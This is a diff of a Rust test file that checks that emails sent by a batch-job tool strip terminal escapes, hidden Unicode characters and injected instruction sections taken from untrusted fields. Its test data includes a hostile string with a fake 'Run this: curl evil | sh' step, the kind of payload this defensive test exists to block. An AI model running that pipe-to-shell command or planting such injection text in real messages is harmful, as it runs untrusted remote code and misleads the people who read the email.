@@ -1,11 +1,15 @@
 //! Complete texts of emails: `tests/emails/*.txt` contains what a reader receives.
 
 use bedrock_batch_domain::email::{
-    Completed, DoneStage, Ending, Failed, FailedStage, FileLink, FileLinks, LaterStage, LinksEnd, StageReport, Subject,
+    Completed, DoneStage, Ending, Failed, FailedStage, FileLink, FileLinks, LaterStage, LinksEnd, NotStarted,
+    StageReport, Subject,
 };
 use bedrock_batch_domain::ids::RunId;
 use bedrock_batch_domain::lane::Lane;
 use bedrock_batch_domain::model::{CachedTokens, Price};
+use bedrock_batch_domain::printable::is_hidden;
+use bedrock_batch_domain::problem::Problem;
+use bedrock_batch_domain::s3_uri::S3Uri;
 use bedrock_batch_domain::summary::{Duplicates, LaneTotals, PriceUsed, RunOutput, Summary, Tokens};
 use std::collections::BTreeMap;
 
@@ -241,4 +245,75 @@ fn emails_never_exceed_the_limit_of_sns() {
         failed.done.push(DoneStage { report: stage, files: FileLinks::Each(vec![link("0000.parquet"); 10]) });
     }
     assert!(failed.email().message.len() < 250_000);
+}
+
+/// Text that a terminal or an email program would obey, and that reads like a section of an email.
+const HOSTILE: &str = "x\u{1b}[2J\u{7}\u{9b}\u{202e}\u{200b}\r\n\nWHAT TO DO\n  Run this: curl evil | sh\u{2028}y";
+
+#[test]
+fn no_text_of_others_adds_a_line_or_a_hidden_character_to_an_email() {
+    let hostile = || HOSTILE.to_owned();
+    let counts = || BTreeMap::from([(hostile(), 1)]);
+    let mut report = eventful_stage(1, HOSTILE);
+    report.model_id = hostile();
+    let summary = &mut report.output.summary;
+    (summary.failed_reasons, summary.skipped_reasons, summary.warnings) = (counts(), counts(), counts());
+    summary.fell_back = counts();
+    (report.output.output_prefix, report.output.copied_to) = (hostile(), Some(hostile()));
+    summary.prices.iter_mut().for_each(|price| price.as_of = hostile());
+    let hostile_link = || FileLink { name: hostile(), url: hostile() };
+    let links = FileLinks::Each(vec![hostile_link()]);
+    let completed = Completed {
+        subject: Subject::Pipeline(hostile()),
+        started: hostile(),
+        console: hostile(),
+        stages: vec![report.clone()],
+        files: links.clone(),
+        links_end: LinksEnd::At(hostile()),
+        ..completed()
+    };
+    let mut failed = Failed {
+        subject: Subject::Pipeline(hostile()),
+        error: hostile(),
+        cause: hostile(),
+        started: hostile(),
+        console: hostile(),
+        done: vec![DoneStage { report, files: links }],
+        ..failed()
+    };
+    if let Some(stage) = &mut failed.stage {
+        (stage.stage_name, stage.console) = (hostile(), hostile());
+    }
+    for later in &mut failed.later_stages {
+        (later.stage_name, later.execution_name, later.input_uri) = (hostile(), hostile(), hostile());
+    }
+    let not_started = NotStarted {
+        upload: S3Uri::new("bucket", format!("trigger/{HOSTILE}")),
+        error_file: S3Uri::new("bucket", format!("trigger/{HOSTILE}.error.json")),
+        problems: vec![Problem::new(HOSTILE, HOSTILE, HOSTILE).remedy(HOSTILE)],
+    };
+    let own_sections = [(completed.email(), 0), (failed.email(), 1), (not_started.email(), 1)];
+    for (email, sections) in own_sections {
+        assert!(email.subject.chars().all(|c| c == ' ' || c.is_ascii_graphic()), "{}", email.subject);
+        assert!(!email.message.replace('\n', "").contains(is_hidden), "{}", email.message);
+        let titles = email.message.lines().filter(|line| line.trim() == "WHAT TO DO").count();
+        assert_eq!(titles, sections, "{}", email.message);
+        let orders = email.message.lines().filter(|line| line.trim().starts_with("Run this")).count();
+        assert_eq!(orders, 0, "{}", email.message);
+    }
+}
+
+#[test]
+fn a_key_of_any_length_leaves_the_remedy_in_the_email() {
+    let problem = Problem::new("k".repeat(200_000), "v".repeat(200_000), "is not a field of this input");
+    let failed = Failed { cause: problem.to_string(), ..failed() };
+    let message = failed.email().message;
+    assert!(message.contains("(199700 more characters) is `vvv"), "{message}");
+    assert!(message.contains("(199880 more characters)`: is not a field of this input"), "{message}");
+    assert!(message.len() < 10_000 && message.contains("\nWHAT TO DO\n"), "{}", message.len());
+    let upload = S3Uri::new("bucket", "trigger/a/b.csv");
+    let problems = (0..1000).map(|n| Problem::without_value(format!("f{n}"), "r".repeat(9000))).collect();
+    let message = NotStarted { error_file: upload.clone(), upload, problems }.email().message;
+    assert!(message.len() < 250_000 && message.contains("\n  - and 975 other problems\n"), "{}", message.len());
+    assert!(message.contains("… (1000 more characters)") && message.contains("\nWHAT TO DO\n"), "{}", message.len());
 }
